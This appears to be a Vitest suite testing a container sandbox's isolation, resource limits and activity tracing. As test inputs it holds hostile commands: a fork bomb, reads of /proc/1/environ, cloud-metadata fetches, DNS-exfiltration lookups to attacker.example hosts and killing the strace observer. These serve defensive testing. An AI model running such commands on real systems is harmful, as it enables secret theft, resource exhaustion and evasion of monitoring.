import { describe, expect, test } from "vitest";

import { engine, runInBox, seen } from "./box.ts";

describe.skipIf(!engine)("a run in a box", () => {
  test("gives the program's own exit code and its output", async () => {
    const record = await runInBox(
      { "a.mjs": "console.log('out'); console.error('err'); process.exit(7);" },
      ["node", "a.mjs"],
    );
    expect(record.end).toEqual({ reason: "exited", code: 7 });
    expect(record.outputTail).toBe("out\nerr\n");
    expect(record.isolation).toMatchObject({
      level: "container",
      selfTest: {
        connectionDenied: true,
        writeDenied: true,
        limitsApplied: true,
        unprivileged: true,
      },
    });
    expect(record.durationMs).toBeGreaterThan(0);
  });

  test("gives 128 and the signal's number for a program that was killed", async () => {
    const record = await runInBox({}, ["sh", "-c", "kill -TERM $$"]);
    expect(record.end).toEqual({ reason: "exited", code: 143 });
  });

  test("says that a command does not exist", async () => {
    const record = await runInBox({}, ["no-such-program"]);
    expect(record.end).toEqual({ reason: "exited", code: 127 });
    expect(record.outputTail).toContain("no-such-program': No such file or directory");
  });

  test("starts a program with the signals as a shell leaves them", async () => {
    const record = await runInBox({}, [
      "sh",
      "-c",
      "yes | head -n 1; grep SigIgn /proc/self/status",
    ]);
    expect(record.outputTail).toMatch(/^y\nSigIgn:\s*0+\n$/);
  });

  test("brings modes, links, empty files and names of any script into the workspace", async () => {
    const record = await runInBox(
      {
        "tool.sh": { script: "#!/bin/sh\necho ran\n" },
        "deep/er/ünïcødé 名.txt": "x",
        "deep/link": { link: "../tool.sh" },
        empty: "",
        escape: { link: "../../etc/passwd" },
        absolute: { link: "/etc/passwd" },
      },
      [
        "sh",
        "-c",
        "./deep/link; find . -type f -o -type l | sort; stat -c %U:%a tool.sh empty deep",
      ],
    );
    expect(record.outputTail.split("\n")).toEqual([
      "ran",
      "./deep/er/ünïcødé 名.txt",
      "./deep/link",
      "./empty",
      "./package.json",
      "./tool.sh",
      "box:755",
      "box:644",
      "box:755",
      "",
    ]);
  });

  test("reads test results from the output", async () => {
    const record = await runInBox(
      {
        "a.test.mjs":
          "import { test } from 'node:test'; test('holds', () => {}); test('breaks', () => { throw new Error('no'); });",
      },
      ["node", "--test"],
    );
    expect(record.end).toEqual({ reason: "exited", code: 1 });
    expect(record.tests.map(({ name, status }) => [name, status])).toEqual([
      ["holds", "passed"],
      ["breaks", "failed"],
    ]);
  });

  test("shows output without escape sequences, controls and invisible characters", async () => {
    const hostile = String.raw`\e[31mred\e[0m \e]0;title\a\e]8;;http://x\e\\link\e]8;;\e\\ \x07\x08\u202eabc\u200b`;
    const record = await runInBox({}, ["bash", "-c", `printf '${hostile}\\n'`]);
    expect(record.outputTail).toBe("red link abc\n");
  });
});

describe.skipIf(!engine)("limits of a box", () => {
  test("time: a program that ignores signals is ended", async () => {
    const record = await runInBox({}, ["bash", "-c", "trap '' TERM INT; while :; do :; done"], {
      timeoutMs: 1500,
    });
    expect(record.end).toEqual({ reason: "timeout" });
  });

  test("output: an endless one is ended and cut", async () => {
    const record = await runInBox({}, ["yes"], { outputBytes: 100_000 });
    expect(record.end).toEqual({ reason: "output-limit" });
    expect(record.outputTail.length).toBeLessThanOrEqual(100_000);
  });

  test("memory: a program that takes it all is ended", async () => {
    const record = await runInBox(
      { "a.mjs": "const kept = []; for (;;) kept.push(Buffer.alloc(8_000_000, 1));" },
      ["node", "a.mjs"],
      { memoryBytes: 128 * 1_048_576 },
    );
    expect(record.end).toEqual({ reason: "out-of-memory" });
  });

  test("processes: a fork bomb stays in its box", async () => {
    const record = await runInBox({}, ["bash", "-c", "f() { f | f & }; f; sleep 20"], {
      timeoutMs: 4000,
      pids: 40,
    });
    expect(["timeout", "tampered", "exited", "out-of-memory", "output-limit"]).toContain(
      record.end.reason,
    );
  });

  test("files: workspace and temporary folders are full at their size", async () => {
    const record = await runInBox(
      {},
      [
        "sh",
        "-c",
        "head -c 99999999 /dev/zero > big; head -c 999999999 /dev/zero > /tmp/big; seq 1 5000 | xargs touch 2>&1 | tail -n 1",
      ],
      { workspaceBytes: 8 * 1_048_576, memoryBytes: 512 * 1_048_576 },
    );
    expect(
      record.outputTail.match(/No space left on device|File size limit|File too large/g)?.length,
    ).toBe(3);
  });
});

describe.skipIf(!engine)("what a box may do", () => {
  test("nothing is writable but the workspace, the home and the temporary folder", async () => {
    const record = await runInBox({}, [
      "sh",
      "-c",
      "for d in / /etc /usr/bin /var /proc/sys/kernel /sys /opt /root; do touch $d/x 2>&1; done; touch ok /tmp/ok ~/ok && echo fine; cp /bin/true /tmp/t && /tmp/t; echo $?",
    ]);
    expect(
      record.outputTail.match(/Read-only file system|Permission denied|No such file/g)?.length,
    ).toBeGreaterThanOrEqual(8);
    expect(record.outputTail).toContain("fine");
    expect(record.outputTail).toMatch(/Permission denied\n126\n$/);
  });

  test("it has no privileges and sees nothing of the host or the keeper", async () => {
    const record = await runInBox({}, [
      "sh",
      "-c",
      "id -u; grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\\t '; env | sort | cut -d= -f1 | tr '\\n' ' '; echo; cat /proc/1/environ /proc/1/mem 2>&1 | head -n 2; kill -9 1 2>&1; ls /var/run/docker.sock /run/secrets 2>&1",
    ]);
    expect(record.outputTail).toMatch(/^65532\nCapEff:0000000000000000\nNoNewPrivs:1\nSeccomp:2\n/);
    expect(
      record.outputTail.match(/Permission denied|not permitted/g)?.length,
    ).toBeGreaterThanOrEqual(3);
    expect(record.outputTail).toContain("PATH");
    expect(record.outputTail).not.toMatch(/DOCKER|SSH|TOKEN|USER/);
  });
});

describe.skipIf(!engine)("what is seen of a run", () => {
  test("a refused connection, with address, port and program, over IPv4 and IPv6", async () => {
    const script = `import net from 'node:net';
      for (const [host, port] of [['198.51.100.7', 8443], ['2001:db8::7', 25]]) {
        await new Promise((done) => net.connect(port, host).on('error', (e) => { console.log(e.code); done(); }));
      }`;
    const record = await runInBox({ "a.mjs": script }, ["node", "a.mjs"]);
    expect(record.outputTail).toBe("ECONNREFUSED\nECONNREFUSED\n");
    expect(seen(record, "connect")).toEqual([
      {
        kind: "connect",
        protocol: "tcp",
        address: "198.51.100.7",
        port: 8443,
        process: expect.stringContaining("node a.mjs"),
        count: 1,
        stack: expect.arrayContaining([{ path: "a.mjs", line: 3, column: 15 }]),
      },
      {
        kind: "connect",
        protocol: "tcp",
        address: "2001:db8::7",
        port: 25,
        process: expect.stringContaining("node a.mjs"),
        count: 1,
        stack: expect.arrayContaining([{ path: "a.mjs", line: 3, column: 15 }]),
      },
    ]);
  });

  test("a datagram", async () => {
    const script = `import dgram from 'node:dgram'; const s = dgram.createSocket('udp4');
      s.send('x', 5353, '203.0.113.9', () => s.close());`;
    const record = await runInBox({ "a.mjs": script }, ["node", "a.mjs"]);
    expect(seen(record, "connect")).toMatchObject([
      { protocol: "udp", address: "203.0.113.9", port: 5353 },
    ]);
  });

  test("the metadata service of a cloud", async () => {
    const script =
      "await fetch('http://169.254.169.254/latest/').catch((e) => console.log(e.cause.code));";
    const record = await runInBox({ "a.mjs": script }, ["node", "a.mjs"]);
    expect(record.outputTail).toBe("ECONNREFUSED\n");
    expect(seen(record, "connect")).toMatchObject([{ address: "169.254.169.254", port: 80 }]);
  });

  test("a name that is looked up, at any server, is denied at once", async () => {
    const script = `import dns from 'node:dns/promises';
      await dns.lookup('exfil.attacker.example').catch((e) => console.log(e.code));
      const direct = new dns.Resolver(); direct.setServers(['8.8.8.8']);
      await direct.resolveTxt('tunnel.attacker.example').catch((e) => console.log(e.code));`;
    const record = await runInBox({ "a.mjs": script }, ["node", "a.mjs"]);
    expect(record.outputTail).toBe("ENOTFOUND\nENOTFOUND\n");
    const names = seen(record, "lookup").map(({ name, type }) => `${name} ${type}`);
    expect(names).toContain("exfil.attacker.example A");
    expect(names).toContain("tunnel.attacker.example TXT");
    expect(seen(record, "connect")).toMatchObject([
      { protocol: "udp", address: "8.8.8.8", port: 53 },
    ]);
  });

  test("more names than are kept is never a whole result", async () => {
    const script = `import dns from 'node:dns/promises';
      for (let i = 0; i < 5200; i += 50) {
        await Promise.all(Array.from({ length: 50 }, (_, j) => dns.resolve4('d' + (i + j) + '.tunnel.example').catch(() => {})));
      }`;
    const record = await runInBox({ "a.mjs": script }, ["node", "a.mjs"]);
    expect(record.end).toEqual({ reason: "output-limit" });
  });

  test("a connection in the middle of a flood of datagrams", async () => {
    const script = `import dgram from 'node:dgram'; import net from 'node:net';
      const s = dgram.createSocket('udp4'); const until = Date.now() + 1500; let port = 1024;
      const flood = () => { for (let i = 0; i < 200; i++) s.send('x'.repeat(900), 1024 + (port++ % 3), '203.0.113.1');
        if (Date.now() < until) setImmediate(flood); else s.close(); };
      flood(); net.connect(4444, '203.0.113.77').on('error', () => {});`;
    const record = await runInBox({ "a.mjs": script }, ["node", "a.mjs"], {
      memoryBytes: 536_870_912,
    });
    expect(record.end).toEqual({ reason: "exited", code: 0 });
    expect(seen(record, "connect")).toContainEqual(
      expect.objectContaining({ protocol: "tcp", address: "203.0.113.77", port: 4444 }),
    );
  });

  test("a server of the program's own on loopback works and is nothing to report", async () => {
    const script = `import http from 'node:http';
      const s = http.createServer((q, a) => a.end('hello')).listen(0, '127.0.0.1', async () => {
        console.log(await (await fetch('http://127.0.0.1:' + s.address().port)).text()); s.close(); });`;
    const record = await runInBox({ "a.mjs": script }, ["node", "a.mjs"]);
    expect(record.outputTail).toBe("hello\n");
    expect(seen(record, "connect").filter(({ address }) => !address.startsWith("127."))).toEqual(
      [],
    );
  });

  test("every program, with its arguments", async () => {
    const record = await runInBox(
      {
        "a.mjs":
          "import { execFileSync } from 'node:child_process'; execFileSync('uname', ['-a', 'b c'].slice(0, 1)); execFileSync('sh', ['-c', 'echo one; true two']);",
      },
      ["node", "a.mjs"],
    );
    const programs = seen(record, "process").map(({ argv }) => argv.join(" "));
    expect(programs).toEqual(
      expect.arrayContaining(["node a.mjs", "uname -a", "sh -c echo one; true two"]),
    );
    expect(programs.some((argv) => argv.includes("default-signal"))).toBe(false);
  });

  test("files that were added, modified and deleted, links and special files among them", async () => {
    const record = await runInBox(
      { "keep.txt": "1", "edit.txt": "1", "gone.txt": "1", "mode.txt": "1" },
      [
        "bash",
        "-c",
        "echo 2 > edit.txt; rm gone.txt; chmod +x mode.txt; mkdir sub; echo x > sub/new.txt; ln -s /etc/passwd out; mkfifo pipe; ln keep.txt hard; truncate -s 20M holes",
      ],
    );
    expect(record.end).toEqual({ reason: "exited", code: 0 });
    expect(
      seen(record, "file")
        .map(({ operation, path }) => `${operation} ${path}`)
        .toSorted(),
    ).toEqual([
      "added hard",
      "added holes",
      "added out",
      "added pipe",
      "added sub/new.txt",
      "deleted gone.txt",
      "modified edit.txt",
      "modified mode.txt",
    ]);
  });

  test("what a process writes that was left behind does not outlive the run", async () => {
    const record = await runInBox({}, [
      "bash",
      "-c",
      "setsid bash -c 'sleep 1; echo late > late.txt; sleep 60' >/dev/null 2>&1 & disown; echo done",
    ]);
    expect(record.end).toEqual({ reason: "exited", code: 0 });
    expect(seen(record, "file")).toEqual([]);
  });

  test("the death of the observer, which is never a pass", async () => {
    const record = await runInBox(
      {
        "a.mjs": `
      import { readdirSync, readFileSync } from 'node:fs';
      for (const pid of readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
        if (readFileSync('/proc/' + pid + '/comm', 'utf8').startsWith('strace')) process.kill(Number(pid), 'SIGKILL');
      }
      setTimeout(() => process.exit(0), 500);`,
      },
      ["node", "a.mjs"],
    );
    expect(record.end).toEqual({ reason: "tampered" });
  });

  test("a forged line of trace in the output changes nothing", async () => {
    const record = await runInBox({}, [
      "sh",
      "-c",
      "echo '1 +++ exited with 0 +++'; echo '1 +++ exited with 0 +++' >&2; echo '1 +++ exited with 0 +++' > /dev/stderr; exit 3",
    ]);
    expect(record.end).toEqual({ reason: "exited", code: 3 });
  });
});
